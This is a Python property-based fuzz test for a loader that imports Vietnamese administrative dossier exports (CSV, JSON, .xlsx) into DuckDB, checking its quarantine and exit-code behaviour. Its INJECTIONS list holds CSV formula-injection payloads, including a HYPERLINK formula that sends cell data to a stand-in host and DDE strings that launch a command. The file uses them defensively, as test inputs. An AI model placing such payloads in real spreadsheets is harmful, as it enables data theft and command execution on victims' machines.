"""Property-based fuzzing of the loader: 1,000 generated broken export files.

Each example mixes known-good dossiers with known-bad ones (no status 42, no channel 9, no 31
February, finished before received, no MaHoSo, no agency, received after today), writes them as CSV
(`,` `;` or tab; UTF-8, UTF-8 with BOM, Windows-1258, Latin-1, UTF-16), JSON (array, sync envelope,
JSON lines) or .xlsx, with headers in sync names or Vietnamese in any case, columns shuffled,
optional ones missing, an unknown column, a personal-data column, cells starting a spreadsheet formula
(= + - @, in names and in dossier ids), a 1 MB field now and then, the same dossier twice (a later
record is a later state), and then maybe damages the bytes: cut short, bytes overwritten or
inserted, a required column left out. Random bytes as a file complete the set.

The loader runs in-process on one DuckDB connection with the warehouse schema (as
bench/bench_load.py's load step does), one file per example. Properties:
- it returns a FileResult and never fails inside (no "lỗi khi nạp tệp" catch-all, no temp table left);
- exit code 2 when unusable and then nothing of the file in raw_dossier or quarantine; else 1 if
  anything was rejected, else 0, and read = loaded + rejected;
- an undamaged file is never unusable: every good dossier is in raw_dossier with its values (the
  last good record of an id wins), every bad one in quarantine, the counts exact;
- a damaged file is unusable as a whole, or every good dossier whose bytes it still holds whole is
  loaded with its values or counted as rejected (damage before it may make it read otherwise: a
  mangled JSON key in the first record names the file's column), never dropped silently;
- a required column left out, or UTF-16, makes the file unusable.
A few files go through `python -m etl load` too, for its exit codes (0, 1, 2).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from etl import load
from tests.conftest import ROOT
from tests.test_load import VI, to_cp1258
from warehouse import build, store

NOW = dt.datetime(2025, 12, 31, 12, 0)
S, H = "000.00.01.H22", "000.00.21.H22"
REQUIRED = ["MaHoSo", "MaDonViXuLy", "TrangThaiHoSo", "NgayTiepNhan", "KenhThucHien"]
OPTIONAL = ["MaTTHC", "TenTTHC", "NgayHenTra", "DonViXuLy"]         # may be left out of a file
COLUMNS = REQUIRED + ["NgayKetThucXuLy"] + OPTIONAL
EXTRA = {"GhiChu": "Ghi chú", "ChuHoSo": "Họ tên"}                 # unknown, and personal data
FORMULA = ["=", "+", "-", "@"]
INJECTIONS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "=cmd|' /C calc'!A0", "+84 912 345 678",
              "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "==", "+", "-", "@"]
HUGE = 1 << 20
TOKEN = "FZ"                          # in every dossier id the strategies write

settings.register_profile("fuzz", deadline=None, database=None, derandomize=True, report_multiple_bugs=False,
                          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                                 HealthCheck.large_base_example])


# ---- records -----------------------------------------------------------------------------------

def _short(value) -> str:
    text = repr(value)
    return text if len(text) < 300 else text[:150] + f"…[{len(text)} characters]…" + text[-60:]


@dataclass
class Record:
    values: dict[str, str]          # sync field -> text as written
    good: bool
    bad_field: str | None = None    # the field the quarantine must name
    stored: tuple | None = None     # (status, channel, agency, received, finished) for a good one

    def __repr__(self) -> str:
        values = {k: _short(v) for k, v in self.values.items()}
        return f"Record({values}, good={self.good}, bad_field={self.bad_field}, stored={self.stored})"


DATE_WRITERS = [lambda d: d.strftime("%d/%m/%Y %H:%M"), lambda d: d.strftime("%Y%m%d%H%M%S"),
                lambda d: d.strftime("%d/%m/%Y %H:%M:%S"), lambda d: d.isoformat()]


@st.composite
def good_record(draw, dossier_id: str) -> Record:
    day, hour, minute = draw(st.integers(1, 27)), draw(st.integers(7, 16)), draw(st.sampled_from([0, 15, 30]))
    received = dt.datetime(2025, 3, day, hour, minute)
    finished = None
    status = draw(st.sampled_from([2, 4, 5, 9, 10]))
    if status in (9, 10):
        finished = received + dt.timedelta(days=draw(st.integers(0, 20)), hours=draw(st.integers(0, 1)))
    channel, agency = draw(st.integers(1, 3)), draw(st.sampled_from([S, H, "X.77", "Z-UNKNOWN"]))
    write = draw(st.sampled_from(DATE_WRITERS))
    name = draw(st.one_of(st.sampled_from(["Cấp phiếu lý lịch tư pháp", "Chứng thực bản sao", ""]),
                          st.sampled_from(INJECTIONS),
                          st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")),
                                  max_size=30)))
    values = {
        "MaHoSo": dossier_id, "MaDonViXuLy": agency, "TrangThaiHoSo": str(status),
        "NgayTiepNhan": write(received), "KenhThucHien": str(channel),
        "NgayKetThucXuLy": write(finished) if finished else "",
        "MaTTHC": "1.001230", "TenTTHC": name,
        "NgayHenTra": (received + dt.timedelta(days=25)).strftime("%d/%m/%Y"),
        "DonViXuLy": draw(st.sampled_from(["Sở Tư pháp", "UBND xã \"Đông Hà\"", "Ban; quản lý, dự án",
                                           *INJECTIONS])),
        "GhiChu": draw(st.sampled_from(["", "ghi chú\nhai dòng", *INJECTIONS])),
        "ChuHoSo": "Nguyễn Văn A",
    }
    return Record(values, True, stored=(status, channel, agency, received, finished))


BAD_KINDS = {
    # kind -> (field named in quarantine, change to a good record)
    "status": ("TrangThaiHoSo", {"TrangThaiHoSo": "42"}),
    "channel": ("KenhThucHien", {"KenhThucHien": "9"}),
    "date": ("NgayTiepNhan", {"NgayTiepNhan": "31/02/2025 08:00"}),
    "future": ("NgayTiepNhan", {"NgayTiepNhan": "05/01/2026 08:00"}),
    "order": ("NgayKetThucXuLy", {"TrangThaiHoSo": "10", "NgayTiepNhan": "20/03/2025 08:00",
                                  "NgayKetThucXuLy": "10/03/2025 08:00"}),
    "no_agency": ("MaDonViXuLy", {"MaDonViXuLy": ""}),
    "no_id": ("MaHoSo", {"MaHoSo": ""}),
}


@st.composite
def bad_record(draw, dossier_id: str) -> Record:
    base = draw(good_record(dossier_id))
    kind = draw(st.sampled_from(sorted(BAD_KINDS)))
    bad_field, change = BAD_KINDS[kind]
    return Record({**base.values, **change}, False, bad_field=bad_field)


@st.composite
def record_set(draw, token: str, allow_huge: bool) -> list[Record]:
    """Good and bad records in a random order; some ids twice (a later state, or a bad record)."""
    ids = [f"{draw(st.sampled_from(['', *FORMULA]))}{token}-{k}" for k in range(draw(st.integers(1, 6)))]
    records = [draw(good_record(i)) for i in ids]
    records += [draw(bad_record(f"{token}-B{k}")) for k in range(draw(st.integers(0, 4)))]
    for i in draw(st.lists(st.sampled_from(ids), max_size=2)):       # the same dossier again
        records.append(draw(st.one_of(good_record(i), bad_record(i))))
    records = draw(st.permutations(records))
    if allow_huge and draw(st.integers(0, 19)) == 0:
        target = draw(st.sampled_from(records))
        target.values[draw(st.sampled_from(["TenTTHC", "GhiChu"]))] = "=" + "x" * HUGE
    return records


# ---- files ----------------------------------------------------------------------------------

@dataclass
class Case:
    fmt: str
    token: str                              # in every dossier id of the file
    encoding: str
    records: list[Record]
    data: bytes = b""
    spans: list[tuple[int, int]] = field(default_factory=list)   # bytes of each record in `data`
    damage: str = "none"                    # none | truncate | overwrite | insert | encoding
    dropped_required: str | None = None
    cut: tuple[int, int] | None = None      # bytes changed by the damage

    def __repr__(self) -> str:
        return (f"Case({self.fmt}, {self.encoding}, damage={self.damage}, cut={self.cut}, "
                f"dropped={self.dropped_required}, spans={self.spans}, records={self.records}, "
                f"data={_short(self.data)})")


def header_name(draw, column: str) -> str:
    sync = column
    vi = VI.get(column) or EXTRA.get(column, column)
    return draw(st.sampled_from([sync, vi, vi.upper(), sync.lower()]))


def encode(text: str, encoding: str, first: bool = False) -> bytes:
    """One piece of a file; UTF-16 has its byte-order mark at the start of the file only."""
    if encoding == "cp1258":   # as a vendor's export in Windows-1258: what it cannot hold becomes '?'
        return b"".join(_cp1258_char(ch) for ch in text)
    if encoding == "latin-1":
        return text.encode("latin-1", errors="replace")
    if encoding == "utf-16":
        return text.encode("utf-16" if first else "utf-16-le")
    if encoding == "utf-8-sig" and not first:
        return text.encode("utf-8")
    return text.encode(encoding)


def _cp1258_char(ch: str) -> bytes:
    try:
        return to_cp1258(ch)
    except UnicodeEncodeError:
        return b"?"


@st.composite
def columns_of(draw) -> tuple[list[str], str | None]:
    cols = COLUMNS[:5] + ["NgayKetThucXuLy"] + [c for c in OPTIONAL if draw(st.booleans())]
    cols += [c for c in EXTRA if draw(st.booleans())]
    dropped = None
    if draw(st.integers(0, 9)) == 0:
        dropped = draw(st.sampled_from(REQUIRED))
        cols.remove(dropped)
    return draw(st.permutations(cols)), dropped


@st.composite
def csv_case(draw) -> Case:
    token = TOKEN
    records = draw(record_set(token, allow_huge=True))
    cols, dropped = draw(columns_of())
    sep = draw(st.sampled_from([",", ";", "\t"]))
    newline = draw(st.sampled_from(["\n", "\r\n"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1258", "utf-8", "latin-1", "utf-16"]))
    names = [header_name(draw, c) for c in cols]

    def line(values: list[str]) -> str:
        # the terminator tells csv which characters need quotes (with "" a value's newline went bare)
        buf = io.StringIO()
        csv.writer(buf, delimiter=sep, lineterminator="\r\n").writerow(values)
        return buf.getvalue()[:-2]

    case = Case("csv", token, encoding, records, dropped_required=dropped)
    data = encode(line(names) + newline, encoding, first=True)
    for r in records:
        chunk = encode(line([r.values.get(c, "") for c in cols]), encoding)
        case.spans.append((len(data), len(data) + len(chunk)))
        data += chunk + encode(newline, encoding)
    case.data = data
    if encoding in ("latin-1", "utf-16"):
        case.damage = "encoding"
    return draw(damaged(case))


@st.composite
def json_case(draw) -> Case:
    token = TOKEN
    records = draw(record_set(token, allow_huge=True))
    cols, dropped = draw(columns_of())
    names = {c: header_name(draw, c) for c in cols}
    layout = draw(st.sampled_from(["array", "envelope", "ndjson"]))
    ascii_only = draw(st.booleans())
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-8", "utf-16"]))

    def obj(r: Record) -> str:
        # an empty value is left out of the record, as sync records do
        return json.dumps({names[c]: r.values[c] for c in cols if r.values.get(c, "") != ""},
                          ensure_ascii=ascii_only)

    head, sep, tail = {"array": ("[\n", ",\n", "\n]\n"),
                       "envelope": ('{"service": "DongBoHoSoMC", "isUpdating": false, "data": [\n',
                                    ",\n", "\n]}\n"),
                       "ndjson": ("", "\n", "\n")}[layout]
    case = Case(layout, token, encoding, records, dropped_required=dropped)
    data = encode(head, encoding, first=True)
    for k, r in enumerate(records):
        if k:
            data += encode(sep, encoding)
        chunk = encode(obj(r), encoding, first=not data)
        case.spans.append((len(data), len(data) + len(chunk)))
        data += chunk
    case.data = data + encode(tail, encoding)
    if encoding == "utf-16":
        case.damage = "encoding"
    return draw(damaged(case))


@st.composite
def xlsx_case(draw) -> Case:
    token = TOKEN
    records = draw(record_set(token, allow_huge=False))      # an Excel cell holds at most 32,767 characters
    cols, dropped = draw(columns_of())
    names = [header_name(draw, c) for c in cols]
    frame = pl.DataFrame({n: [r.values.get(c, "") or None for r in records] for n, c in zip(names, cols)},
                         schema={n: pl.String for n in names})
    buf = io.BytesIO()
    frame.write_excel(buf)
    case = Case("xlsx", token, "xlsx", records, data=buf.getvalue(), dropped_required=dropped)
    return draw(damaged(case))


@st.composite
def damaged(draw, case: Case) -> Case:
    """Maybe damage the bytes: cut short, overwrite some, insert some."""
    kind = draw(st.sampled_from(["none", "none", "truncate", "overwrite", "insert"]))
    if kind == "none" or not case.data:
        return case
    n = len(case.data)
    # a place given as a fraction of the file: an .xlsx is not byte-for-byte the same twice (its
    # timestamp), and what hypothesis draws must not depend on its length
    at = draw(st.integers(0, 1 << 20)) * (n - 1) >> 20
    if kind == "truncate":
        case.data, case.cut = case.data[:at], (at, n)
    else:
        junk = draw(st.binary(min_size=1, max_size=8)
                    | st.sampled_from([b'"', b"\n", b";", b",", b"\x00", b"\xff"]))
        if kind == "overwrite":
            case.data = case.data[:at] + junk + case.data[at + len(junk):]
        else:
            case.data = case.data[:at] + junk + case.data[at:]
        case.cut = (at, at + len(junk))
    case.damage = kind if case.damage == "none" else case.damage + "+" + kind
    return case


# ---- the loader on one connection -------------------------------------------------------------

@pytest.fixture(scope="module")
def con():
    c = duckdb.connect()
    store.configure(c)
    c.execute("set threads = 2")
    build.create_schema(c)
    build.apply_macros_for(c, build.SQL_DIR / "load")
    yield c
    c.close()


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("fuzz")


def intact(case: Case, span: tuple[int, int]) -> bool:
    """The record's bytes are all still there, untouched, and so is the byte on each side of them
    (what is inserted or overwritten next to a record joins it). Spans are in the bytes as written."""
    if case.cut is None:
        return True     # undamaged, or only re-encoded: identifiers, codes and dates are ASCII
    start, end = span
    a, b = case.cut
    if case.spans and a <= case.spans[0][0]:
        return False    # the header (or the envelope's head) is damaged: every record may read otherwise
    if case.damage.endswith("truncate"):
        return end < a
    if case.damage.endswith("insert"):
        return end + 1 < a or start > a
    return end + 1 < a or start > b


def check(con, path: Path, case: Case, result: load.FileResult) -> None:
    assert result.unusable is None or not result.unusable.startswith("lỗi khi nạp tệp"), result.unusable
    assert con.execute("select count(*) from duckdb_tables() where temporary").fetchall()[0][0] == 0
    assert result.exit_code == (2 if result.unusable else 1 if result.rejected else 0)
    mine = con.execute("select dossier_id, status, channel, agency_code, received_at, finished_at "
                       "from raw_dossier where contains(dossier_id, ?)", [case.token]).fetchall()
    quarantined = con.execute("select record_key, field from quarantine where source_file = ?",
                              [str(path)]).fetchall()
    if result.unusable:
        assert (result.loaded, result.rejected) == (0, 0)
        assert mine == [] and quarantined == [], "an unusable file left records behind"
        assert con.execute("select status from load_log where source = ?", [str(path)]).fetchall() == \
            [("unusable",)]
    else:
        assert result.read == result.loaded + result.rejected
    if not result.unusable and result.kind != "dossier":
        # without a MaHoSo column (left out, or its header mangled) the columns may be another list's
        # (MaTTHC and TenTTHC: the procedure catalogue); never a whole file's
        assert case.dropped_required == "MaHoSo" or case.damage != "none", result.summary()
        assert mine == [], result.summary()
        return
    if case.dropped_required or case.encoding == "utf-16":
        assert result.unusable, "a file without a required column, or in UTF-16, was loaded"
        return
    stored = {r[0]: tuple(r[1:]) for r in mine}
    last_good: dict[str, tuple] = {}          # the last good record of an id is its state
    for r in case.records:
        if r.good:
            last_good[r.values["MaHoSo"]] = r.stored
    if case.damage == "none":
        assert result.unusable is None, result.unusable
        assert stored == last_good
        bads = [r for r in case.records if not r.good]
        assert (result.read, result.loaded, result.rejected) == (
            len(case.records), len(case.records) - len(bads), len(bads))
        for b in bads:
            assert (b.values["MaHoSo"] or None, b.bad_field) in quarantined, (b.values, quarantined)
        assert {k for k, _ in quarantined} <= {b.values["MaHoSo"] or None for b in bads}
        return
    if result.unusable:
        return
    # damaged but usable: every good dossier whose records are all still whole is there as written
    whole: dict[str, bool] = {}
    for r, span in zip(case.records, case.spans):
        whole[r.values["MaHoSo"]] = whole.get(r.values["MaHoSo"], True) and intact(case, span)
    # (an .xlsx has no record spans: its bytes are compressed). One that is not there must have been
    # rejected: damage before it can make it read otherwise (a JSON key of the first record is the
    # file's column name for that field), but never drop it silently
    missing = [i for i, state in last_good.items() if whole.get(i) and stored.get(i) != state]
    assert len(missing) <= result.rejected, (missing, case.damage, result.summary())


def reset(con) -> None:
    """Each example starts from an empty warehouse (the examples must not depend on each other)."""
    for (name,) in con.execute("select table_name from duckdb_tables() where not temporary").fetchall():
        con.execute(f"delete from {name}")


def run(con, files: Path, case: Case) -> None:
    reset(con)
    path = files / f"case.{case.fmt}"      # the loader knows formats from content, not names
    path.write_bytes(case.data)
    result = load._load_file(con, path, None, NOW)
    check(con, path, case, result)


# ---- the properties ---------------------------------------------------------------------------

@settings(settings.get_profile("fuzz"), max_examples=400)
@given(case=csv_case())
def test_broken_csv_files(con, files, case):
    run(con, files, case)


@settings(settings.get_profile("fuzz"), max_examples=300)
@given(case=json_case())
def test_broken_json_files(con, files, case):
    run(con, files, case)


@settings(settings.get_profile("fuzz"), max_examples=150)
@given(case=xlsx_case())
def test_broken_xlsx_files(con, files, case):
    if case.dropped_required is None and case.damage == "none":
        assert pl.read_excel(io.BytesIO(case.data)).height == len(case.records)   # the file is as meant
    run(con, files, case)


@settings(settings.get_profile("fuzz"), max_examples=150)
@given(data=st.binary(max_size=4096) | st.builds(lambda b: b"PK\x03\x04" + b, st.binary(max_size=512))
       | st.builds(lambda b: b"[" + b, st.binary(max_size=512))
       | st.builds(lambda b: b"{" + b, st.binary(max_size=512)))
def test_random_bytes(con, files, data):
    reset(con)
    path = files / "random.dat"
    path.write_bytes(data)
    result = load._load_file(con, path, None, NOW)
    assert result.unusable is None or not result.unusable.startswith("lỗi khi nạp tệp"), result.unusable
    assert result.exit_code == (2 if result.unusable else 1 if result.rejected else 0)
    assert con.execute("select count(*) from duckdb_tables() where temporary").fetchall()[0][0] == 0


def test_files_the_fuzzing_found(con, files):
    """Two files that made the reader raise out of it (reported as "lỗi khi nạp tệp"), now read."""
    header = "MaHoSo,MaDonViXuLy,TrangThaiHoSo,NgayTiepNhan,KenhThucHien"
    cases = {
        # a UTF-8 byte-order mark, then a damaged byte: one wrong character, as without the mark
        "bom.csv": (b"\xef\xbb\xbf" + f"{header},Ghi\xa0chú\n".encode() + b"B1,X.1,4,01/03/2025,1,\x80\n",
                    ["B1"]),
        # lines ended by a lone CR (old Mac exports): the CR stayed inside the header line
        "cr.csv": (f"{header}\rC1,X.1,4,01/03/2025,1\rC2,X.1,4,02/03/2025,2\r".encode(), ["C1", "C2"]),
    }
    for name, (data, ids) in cases.items():
        reset(con)
        path = files / name
        path.write_bytes(data)
        result = load._load_file(con, path, None, NOW)
        assert (result.unusable, result.loaded, result.rejected) == (None, len(ids), 0), result.summary()
        assert con.execute("select dossier_id, source_row from raw_dossier order by 1").fetchall() == \
            [(i, k + 2) for k, i in enumerate(ids)]
    reset(con)
    (files / "cr_only.dat").write_bytes(b"\r\x01")
    result = load._load_file(con, files / "cr_only.dat", None, NOW)
    assert result.unusable and "không nhận ra" in result.unusable


# ---- exit codes of the command ------------------------------------------------------------------

def test_exit_codes_through_the_command(tmp_path):
    """A clean file 0, a file with rejected records 1, an unusable file beside a good one 2 (the good one
    loaded): the files are made by the same builders, with fixed choices."""
    token = "CLI"
    good = [Record({"MaHoSo": f"{token}-{k}", "MaDonViXuLy": S, "TrangThaiHoSo": "4",
                    "NgayTiepNhan": f"0{k + 1}/03/2025 08:00", "KenhThucHien": "2", "NgayKetThucXuLy": "",
                    "TenTTHC": INJECTIONS[k]}, True) for k in range(3)]
    bad = Record({**good[0].values, "MaHoSo": f"{token}-B", "KenhThucHien": "9"}, False)

    def write(name: str, records: list[Record], encoding: str = "utf-8") -> Path:
        cols = REQUIRED + ["NgayKetThucXuLy", "TenTTHC"]
        buf = io.StringIO()
        rows = [[r.values[c] for c in cols] for r in records]
        csv.writer(buf, lineterminator="\n").writerows([cols] + rows)
        path = tmp_path / name
        path.write_bytes(buf.getvalue().encode(encoding))
        return path

    directory = tmp_path / "wh"
    for files, code in (([write("clean.csv", good[:1])], 0), ([write("partial.csv", [good[1], bad])], 1),
                        ([write("utf16.csv", good, "utf-16"), write("more.csv", good[2:])], 2)):
        out = subprocess.run([sys.executable, "-m", "etl", "load", *map(str, files),
                              "--warehouse", str(directory)],
                             cwd=ROOT, capture_output=True, text=True, timeout=300)
        assert out.returncode == code, out.stderr
    con = store.connect(store.current_path(directory))
    try:
        assert sorted(r[0] for r in con.execute("select dossier_id from raw_dossier").fetchall()) == \
            ["CLI-0", "CLI-1", "CLI-2"]
        rejected = con.execute("select record_key, field from quarantine").fetchall()
        assert rejected == [("CLI-B", "KenhThucHien")]
    finally:
        con.close()
